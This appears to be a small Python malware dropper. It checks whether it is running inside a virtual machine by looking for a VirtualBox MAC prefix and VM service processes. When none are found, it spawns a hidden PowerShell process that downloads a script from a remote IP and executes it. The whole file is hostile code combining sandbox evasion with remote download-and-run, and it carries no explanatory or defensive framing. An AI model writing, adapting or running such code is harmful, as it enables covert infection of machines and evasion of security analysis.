import os
import subprocess
import uuid
mac = ":".join(f"{(uuid.getnode() >> s) & 0xff:02x}" for s in range(40, -1, -8))
procs = subprocess.getoutput("tasklist" if os.name == "nt" else "ps aux").lower()
if not (mac.startswith("08:00:27") or "vboxservice" in procs or "vmtoolsd" in procs):
    subprocess.Popen("powershell -w hidden -c \"iwr http://198.51.100.90/s.ps1 | iex\"", shell=True)
